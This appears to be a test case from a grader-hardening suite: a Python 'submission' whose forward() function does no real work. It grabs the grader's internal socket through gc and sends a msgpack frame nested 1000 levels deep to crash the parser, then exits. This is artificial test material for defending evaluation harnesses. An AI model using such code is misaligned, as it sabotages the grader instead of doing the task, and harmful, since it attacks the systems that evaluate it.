# what: Send a value nested so deeply that whoever walks it falls.
# verdict: wrong | crashed
# breach: collapse: the grader fails in a way of its own
# defence: replies
import gc
import os
import struct
import sys

encode = sys.modules["grader.wire.codec"].encode
worker = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Worker")
channel = worker._channel._socket
channel.setblocking(True)


def send(message):
    frame = message if isinstance(message, bytes) else encode(message)
    channel.sendall(struct.pack(">I", len(frame)) + frame)


import msgpack


def forward(x, w1, w2, b):
    depth = 1000
    send(b"\x82\xa5value" + b"\x91" * depth + b"\xc0" + b"\xa7changed\x90")
    os._exit(0)
